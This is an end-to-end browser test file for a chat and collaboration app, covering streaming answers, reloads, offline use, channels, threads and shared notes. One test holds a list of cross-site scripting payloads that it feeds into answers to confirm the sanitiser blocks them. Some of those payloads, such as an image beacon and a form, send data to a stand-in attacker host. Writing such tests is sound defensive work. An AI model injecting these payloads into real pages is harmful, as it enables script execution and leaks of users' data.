/// <reference lib="dom" />
/// <reference lib="dom.iterable" />
import assert from "node:assert/strict";
import axe from "axe-core";
import type { Page } from "playwright-core";
import { picture, signUpOnPage, visit } from "../support/browser.ts";
import { until } from "../support/until.ts";
import { ask, house, LIMIT_MS, options, waitForText, WORDS } from "./support.ts";

/** Attacks that an answer or a message could carry. */
const ATTACKS = [
  "<script>globalThis.owned = 1</script>",
  '<img src=x onerror="globalThis.owned = 2">',
  "[click](javascript:globalThis.owned=3)",
  '<svg><animate onbegin="globalThis.owned=4" attributeName=x dur=1s></svg>',
  '<iframe srcdoc="<script>parent.owned=5</script>"></iframe>',
  '<a href="data:text/html,<script>owned=6</script>">six</a>',
  '<form action="https://evil.example"><input name=q><button>seven</button></form>',
  "![beacon](https://evil.example/pixel.png?said=secret)",
  '<math><mtext><table><mglyph><style><img src onerror="globalThis.owned=8">',
  '<div style="position:fixed;inset:0;background:url(https://evil.example/nine)">nine</div>',
  "<b id=app class=toasts>ten</b><base href=https://evil.example>",
];

const answer = (page: Page) => page.locator(".answer").last();

/** Serious findings of axe, in words. */
async function findings(page: Page): Promise<string[]> {
  // The policy forbids scripts in the page's own document; this one comes by the debugger.
  await page.evaluate(axe.source);
  return await page.evaluate(async () => {
    const { violations } = await (globalThis as unknown as { axe: typeof axe }).axe.run();
    return violations
      .filter(({ impact }) => impact === "serious" || impact === "critical")
      .map(({ id, nodes }) => `${id}: ${nodes.map(({ html }) => html.slice(0, 120)).join(" | ")}`);
  });
}

Deno.test(
  "chats in a browser: sign up, stream, reload in mid-answer, stop, ask again, offline",
  options,
  async (t) => {
    await using place = await house();
    const { provider, app, browser } = place;
    await using visitor = await visit(browser, app.url);
    const { page, context, faults } = visitor;
    page.setDefaultTimeout(LIMIT_MS);

    await t.step("sign up", async () => {
      await page.getByRole("heading", { name: "Welcome back" }).waitFor();
      await picture(page, "sign_in");
      assert.deepEqual(await findings(page), []);
      await signUpOnPage(page, "Ada Lovelace");
      await picture(page, "chat_empty");
      assert.deepEqual(await findings(page), []);
    });

    await t.step("an answer streams", async () => {
      provider.script = { tokens: ["# Tides\n\n", "Twice **a", " day**.\n\n", "- one\n", "- two"] };
      await ask(page, "Why are there tides?");
      await answer(page).getByRole("heading", { name: "Tides" }).waitFor();
      await answer(page).locator("strong", { hasText: "a day" }).waitFor();
      await answer(page).getByText("two").waitFor();
      await page.getByRole("button", { name: "Ask again" }).waitFor();
      await picture(page, "chat");
      assert.deepEqual(await findings(page), []);
    });

    await t.step("T6: a reload in mid-answer goes on, to the byte", async () => {
      provider.script = { tokens: WORDS, paceMs: 8 };
      await ask(page, "Count.");
      await waitForText(page, ".answer", "word40 ");
      await picture(page, "chat_streaming");
      await page.reload();
      await waitForText(page, ".answer", "word60 ");
      await waitForText(page, ".answer", "word299");
      const text = await answer(page).locator(".markdown").innerText();
      assert.equal(text.trim(), WORDS.join("").trim());
    });

    await t.step("stop ends it, and keeps what there is", async () => {
      provider.script = { tokens: WORDS.map((word) => `more-${word}`), paceMs: 20 };
      await ask(page, "Count again.");
      await waitForText(page, ".answer", "more-word9 ");
      await page.getByRole("button", { name: "Stop" }).click();
      await answer(page).getByText("Stopped before its end.").waitFor();
      const text = await answer(page).locator(".markdown").innerText();
      assert.ok(!text.includes("more-word299"));
      await page.reload();
      await answer(page).getByText("Stopped before its end.").waitFor();
    });

    await t.step("asked again, both answers stay", async () => {
      provider.script = { tokens: ["Another", " answer."] };
      await answer(page).getByRole("button", { name: "Ask again" }).click();
      await answer(page).getByText("Another answer.").waitFor();
      await answer(page).getByText("2 / 2").waitFor();
      await answer(page).getByRole("button", { name: "The answer before" }).click();
      await answer(page).getByText("Stopped before its end.").waitFor();
    });

    await t.step("no attack in an answer runs, loads or reshapes the page", async () => {
      provider.script = { tokens: ATTACKS.map((attack) => `${attack}\n\n`) };
      await ask(page, "Attack.");
      await page.locator(".answer footer").last().waitFor();
      await answer(page).getByText("toasts>ten").waitFor();
      await answer(page).getByRole("link", { name: "beacon" }).waitFor();
      const found = await page.evaluate(() => {
        const text = [...document.querySelectorAll(".markdown")].at(-1);
        return {
          owned: Reflect.get(globalThis, "owned"),
          bad: text?.querySelectorAll(
            "script,iframe,img,form,style,svg,base,[style],[id],[onerror]",
          ).length,
          links: [...text?.querySelectorAll("a") ?? []].map((link) => link.protocol),
        };
      });
      assert.equal(found.owned, undefined);
      assert.equal(found.bad, 0);
      assert.ok(
        found.links.every((protocol) => ["https:", "http:", ":"].includes(protocol)),
        String(found.links),
      );
    });

    await t.step("nothing failed, and nothing was complained about", () => {
      // A reload takes back what was on its way.
      assert.deepEqual(faults.filter((fault) => !fault.includes("ERR_ABORTED")), []);
    });

    await t.step("offline, the page opens and shows what was read", async () => {
      await page.evaluate(() => navigator.serviceWorker.ready);
      await page.reload();
      await answer(page).getByText("toasts>ten").waitFor();
      await context.setOffline(true);
      await page.reload();
      await answer(page).getByText("toasts>ten").waitFor();
      await page.getByText("No connection. You can read what is here").waitFor();
      await picture(page, "offline");
      const width = await page.locator(".brand img").evaluate((image: HTMLImageElement) =>
        image.naturalWidth
      );
      assert.ok(width > 0, "the icon is there offline, too");
      assert.ok(await page.getByRole("button", { name: "Send" }).isDisabled());
      await context.setOffline(false);
      await page.locator(".light.online").waitFor({ state: "attached" });
    });
  },
);

Deno.test(
  "two people in a browser: a channel with threads and unread, a note edited together",
  options,
  async (t) => {
    await using place = await house();
    const { app, browser } = place;
    await using one = await visit(browser, app.url);
    await using two = await visit(browser, app.url, {
      ...{
        colorScheme: "dark",
        viewport: { width: 390, height: 800 },
        hasTouch: true,
        isMobile: true,
      },
    });
    const [ada, bob] = [one.page, two.page];
    for (const page of [ada, bob]) page.setDefaultTimeout(LIMIT_MS);
    await signUpOnPage(ada, "Ada Lovelace");
    await signUpOnPage(bob, "Bob");

    await t.step("a channel reaches everybody, with what is unread", async () => {
      await picture(bob, "phone_dark_chat");
      await ada.getByRole("button", { name: "New channel" }).click();
      await ada.getByRole("textbox", { name: "New channel" }).fill("general");
      await ada.keyboard.press("Enter");
      await ada.getByRole("heading", { name: "general", exact: true }).waitFor();
      await ask(ada, "Hello **everybody**");
      await bob.getByRole("button", { name: "Menu" }).click();
      await bob.locator(".sidebar").getByRole("link", { name: "general" }).waitFor();
      await bob.getByLabel("1 unread").waitFor();
      await picture(bob, "phone_dark_menu");
      await bob.locator(".sidebar").getByRole("link", { name: "general" }).click();
      await bob.locator(".post strong", { hasText: "everybody" }).waitFor();
      await bob.getByLabel("1 unread").waitFor({ state: "detached" });
    });

    await t.step("who types is seen, and replies stand in a thread", async () => {
      await bob.getByLabel("Message", { exact: true }).pressSequentially("Hi");
      await ada.getByText("Bob is typing…").waitFor();
      await bob.getByRole("button", { name: "Send" }).click();
      await ada.locator(".post", { hasText: "Hi" }).waitFor();
      await ada.locator(".post").first().hover();
      await ada.locator(".post").first().getByRole("button", { name: "Reply in a thread" }).click();
      await ada.getByLabel("Reply", { exact: true }).fill("in the thread");
      await ada.keyboard.press("Enter");
      await ada.locator(".thread .post", { hasText: "in the thread" }).waitFor();
      assert.equal(await ada.locator(".thread .post").count(), 2);
      await bob.getByRole("button", { name: "1 reply" }).waitFor();
      await picture(ada, "channel_thread");
      await picture(bob, "phone_dark_channel");
      assert.deepEqual(await findings(ada), []);
      assert.deepEqual(await findings(bob), []);
    });

    await t.step("a note is edited by both, with names at the cursors", async () => {
      await ada.goto(`${app.url}/#/notes`);
      await ada.getByRole("button", { name: "New note" }).click();
      await ada.getByText("Saved", { exact: true }).waitFor();
      await ada.getByRole("button", { name: "Share with everybody here" }).click();
      await ada.getByRole("button", { name: "Stop sharing" }).waitFor();
      await bob.goto(new URL(new URL(ada.url()).hash, app.url).href);
      const [text, other] = [ada.locator(".ProseMirror"), bob.locator(".ProseMirror")];
      await bob.getByText("Saved", { exact: true }).waitFor();
      await text.click();
      await ada.keyboard.type("## Plan\nFirst **things** first");
      await other.getByRole("heading", { name: "Plan" }).waitFor();
      await other.locator("strong", { hasText: "things" }).waitFor();
      await other.click();
      await bob.keyboard.press("Control+End");
      await bob.keyboard.type(" of all");
      await text.getByText("first of all").waitFor();
      await ada.locator(".cursor", { hasText: "Bob" }).waitFor();
      await picture(ada, "note");
      await picture(bob, "phone_dark_note");
      assert.deepEqual(await findings(ada), []);
      assert.deepEqual(await findings(bob), []);
      await ada.getByText("Saved", { exact: true }).waitFor();
      // Every edit is kept by then; lists show the note's own text, which follows within a second.
      const noteId = new URL(ada.url()).hash.split("/").at(-1) ?? "";
      await until(
        async () => JSON.stringify(await app.services.notes.load(noteId) ?? "").includes("of all"),
        { limitMs: 10_000, what: "the note's own text" },
      );
      await ada.goto(`${app.url}/#/notes`);
      await ada.locator(".note-list a", { hasText: "First things first of all" }).waitFor();
      await picture(ada, "notes");
      assert.deepEqual(await findings(ada), []);
    });

    await t.step("settings and the live view", async () => {
      await bob.goto(`${app.url}/#/settings`);
      await bob.getByRole("heading", { name: "Look and sound" }).waitFor();
      await picture(bob, "phone_dark_settings");
      assert.deepEqual(await findings(bob), []);
      await ada.goto(`${app.url}/#/admin`);
      await ada.getByText("(answers here)").waitFor();
      await picture(ada, "admin");
      assert.deepEqual(await findings(ada), []);
    });

    await t.step("nothing failed, and nothing was complained about", () => {
      assert.deepEqual(one.faults, []);
      assert.deepEqual(two.faults, []);
    });
  },
);
